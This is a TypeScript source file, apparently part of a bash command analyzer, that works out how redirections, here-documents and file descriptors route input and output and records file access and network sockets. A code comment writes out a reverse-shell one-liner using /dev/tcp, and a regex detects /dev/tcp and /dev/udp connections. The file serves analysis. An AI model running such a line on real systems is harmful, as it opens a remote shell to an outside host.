import { expandBody, expandText, expandWord } from './expand-word.ts';
import { type Field, fieldFrom, isKnown, knownField, unknownField } from './field.ts';
import type { Redirection } from './parse.ts';
import { type Descriptor, setVariable, textValue } from './scope.ts';
import {
  contentOf,
  type Frame,
  frameAt,
  type Output,
  readableContent,
  recordAccess,
  recordAround,
  recordUnresolved,
  resolveField,
} from './session.ts';

export interface Streams {
  /** What the command will read from standard input. */
  readonly input: Output;
  /** False when its standard output goes to a file or another descriptor. */
  readonly printsToPipe: boolean;
  /** The files that its standard output goes to. */
  readonly outputs: readonly OutputFile[];
  /** The open files besides standard output and standard error. */
  readonly descriptors: ReadonlyMap<number, Descriptor>;
}

export interface OutputFile {
  readonly target: Field;
  readonly frame: Frame;
  readonly appends: boolean;
}

/** bash opens a connection for it. */
const SOCKET = /^\/dev\/(?:tcp|udp)\//;

/** Programs that do something with what they read, other than print it. */
const ACTS_ON_INPUT =
  /^(?:xargs|parallel|read|mapfile|readarray|source|\.|tee|at|batch|env|sudo|(?:ba|da|z|k|a)?sh|python\d?|node|perl|ruby|php)$/;

/** `name`: the command, if it is a simple one. */
export function applyRedirects(
  redirects: readonly Redirection[],
  frame: Frame,
  name?: string | undefined,
): Streams {
  if (redirects.length === 0)
    return { input: frame.input, printsToPipe: true, outputs: [], descriptors: frame.scope.descriptors };
  const streams: OpenStreams = {
    input: frame.input,
    printsToPipe: true,
    outputs: [],
    descriptors: new Map(frame.scope.descriptors),
  };
  const looksInside = name === undefined || frame.wantsOutput || ACTS_ON_INPUT.test(name);
  for (const redirect of redirects) {
    const at = frameAt(redirect, frame);
    const number = descriptorOf(redirect, frame);
    if (redirect.type === 'Redirect') openFile(redirect, number, looksInside, streams, at);
    else {
      const content = givenInput(redirect, at);
      streams.descriptors.set(number, { path: undefined, content });
      if (number === 0) streams.input = content;
    }
  }
  return streams;
}

interface OpenStreams {
  input: Output;
  printsToPipe: boolean;
  readonly outputs: OutputFile[];
  readonly descriptors: Map<number, Descriptor>;
}

function openFile(
  redirect: FileRedirect,
  number: number,
  looksInside: boolean,
  streams: OpenStreams,
  frame: Frame,
): void {
  const { operator } = redirect;
  const fields = applyFileRedirect(redirect, frame);
  const [first] = fields;
  const opened = openedBy(operator, first, looksInside, streams.descriptors, frame);
  const isSocket = first !== undefined && SOCKET.test(first.text);
  if ((number !== 1 && number !== 2) || isSocket || opened.feeds !== undefined)
    streams.descriptors.set(number, opened);
  const isOutput = number === 1 || operator.startsWith('&');
  if (isOutput) streams.printsToPipe = false;
  else if (number === 0 && operator !== '<>') streams.input = opened.content;
  // What goes to the standard error as well isn't known.
  if (isOutput && /^>[>|]?$/.test(operator))
    streams.outputs.push(...fields.map((target) => ({ target, frame, appends: operator === '>>' })));
  else if (isOutput && opened.feeds !== undefined)
    streams.outputs.push({
      target: { ...knownField('/dev/fd/63'), feeds: opened.feeds },
      frame,
      appends: true,
    });
  else first?.feeds?.(undefined);
}

function openedBy(
  operator: string,
  target: Field | undefined,
  looksInside: boolean,
  descriptors: ReadonlyMap<number, Descriptor>,
  frame: Frame,
): Descriptor {
  if (target === undefined) return { path: undefined, content: undefined };
  if ((operator === '<&' || operator === '>&') && !SOCKET.test(target.text)) {
    const same =
      isKnown(target) && /^\d{1,4}-?$/.test(target.text) ? Number.parseInt(target.text, 10) : undefined;
    const open = same === undefined ? undefined : descriptors.get(same);
    return open ?? { path: undefined, content: same === 0 ? frame.input : undefined };
  }
  const path = resolveField(frame, target);
  // What is opened for both is read from, too: `bash -i >& /dev/tcp/host/80 0>&1`.
  if (SOCKET.test(target.text)) return { path, content: fieldFrom('network') };
  if (operator !== '<') return { path, content: undefined, ...(target.feeds && { feeds: target.feeds }) };
  if (!looksInside) return { path, content: contentGiven(target, frame) };
  return {
    path,
    content: readableContent(target, frame) ?? contentGiven(target, frame) ?? unknownField(target.text),
  };
}

/** What is in a file; of one on the disk only which it is. */
function contentGiven(field: Field | undefined, frame: Frame): Output {
  const content = field && contentOf(field, frame);
  if (field === undefined || content !== undefined) return content;
  const file = resolveField(frame, field);
  return file === undefined || file.startsWith('/dev/')
    ? undefined
    : { text: '', state: 'unknown', files: [file] };
}

/** What a here-document or a here-string puts on standard input. */
function givenInput(redirect: Exclude<Redirection, FileRedirect>, frame: Frame): Field {
  if (redirect.type === 'HereString') {
    const text = redirect.target === undefined ? knownField('') : expandText(redirect.target, frame);
    return { ...text, text: `${text.text}\n` };
  }
  const { body, delimiter } = redirect;
  const parts = delimiter?.quoted === true ? undefined : body.parts;
  const text = parts === undefined ? knownField(body.text) : expandBody(parts, frame);
  return redirect.operator === '<<-' ? { ...text, text: text.text.replace(/^\t+/gm, '') } : text;
}

type FileRedirect = Extract<Redirection, { type: 'Redirect' }>;

const FIRST_NAMED = 10;

function descriptorOf(redirect: Redirection, { scope }: Frame): number {
  const { descriptor } = redirect;
  if (descriptor === undefined) return redirect.operator.startsWith('<') ? 0 : 1;
  if (descriptor.type === 'FileDescriptor') return descriptor.value;
  // `{name}>file`: the shell picks a number and keeps it in the variable.
  let number = FIRST_NAMED;
  while (scope.descriptors.has(number)) number++;
  setVariable(scope, descriptor.name, textValue(String(number)));
  return number;
}

function applyFileRedirect(redirect: FileRedirect, frame: Frame): readonly Field[] {
  const { operator, target } = redirect;
  if (target === undefined) return [];
  const fields = expandWord(target, frame);
  const duplicates = operator === '>&' || operator === '<&';
  for (const field of fields) {
    if (duplicates && (field.state === 'unknown' || /^(?:\d+-?|-)$/.test(field.text))) continue;
    if (SOCKET.test(field.text))
      recordAround(frame, [knownField(operator.startsWith('<') ? '<' : '>'), field]);
    if (operator === '<>') recordAccess(frame, 'read', field);
    recordAccess(frame, operator === '<' || operator === '<&' ? 'read' : 'create', field);
  }
  if (fields.length === 0 && operator !== '<') recordUnresolved(frame, target.text);
  return fields;
}
